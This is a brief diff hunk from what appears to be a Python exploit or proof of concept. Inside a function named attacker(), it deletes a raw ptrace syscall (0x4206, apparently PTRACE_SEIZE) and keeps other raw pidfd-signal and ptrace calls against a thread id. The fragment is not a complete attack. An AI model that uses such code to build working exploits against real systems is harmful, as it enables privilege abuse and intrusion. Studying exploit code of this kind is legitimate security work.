@@ -38,7 +38,6 @@ def attacker():
             native(424, os.pidfd_open(tid, os.O_EXCL), 9, 0, 0),
             native(424, os.pidfd_open(tid, os.O_EXCL), 9, 0, 2),
             native(101, 16, tid, 0, 0),
-            native(101, 0x4206, tid, 0, 0),
         )
     ]
     one, _ = socket.socketpair()
